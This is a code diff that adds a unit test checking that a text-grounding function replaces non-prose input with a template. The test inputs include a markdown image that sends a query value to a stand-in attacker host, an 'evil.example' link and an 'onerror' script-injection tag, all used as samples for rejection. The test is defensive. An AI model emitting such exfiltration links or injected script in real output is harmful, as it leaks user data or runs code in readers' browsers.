@@ -35,6 +35,23 @@ describe('an explanation that somebody else wrote', () => {
     });
     expect(groundedText(' ', template, REGIONS).accepted).to.equal(false);
   });
+
+  it('gives way to the template where it is no prose', () => {
+    const texts = [
+      'Europe leads. ![x](https://evil.example/?q=Europe)',
+      'Europe leads, see www.evil.example',
+      '<img src=x onerror=alert()> Europe leads.',
+      '{"explanation": "Europe leads."}',
+      '# Europe leads',
+      '- Europe\n- Asia',
+      '| Europe |',
+      'Europe `leads`',
+    ];
+    for (const text of texts)
+      expect(groundedText(text, 'the template', REGIONS).text, text).to.equal('the template');
+    const prose = 'Europe leads - by far, and Asia follows: so it is (again).';
+    expect(groundedText(prose, 'the template', REGIONS).text).to.equal(prose);
+  });
 });
 
 const LABELS = ['Oslo', 'Lima', 'Cairo', 'Quito', 'Delhi', 'Hanoi'];
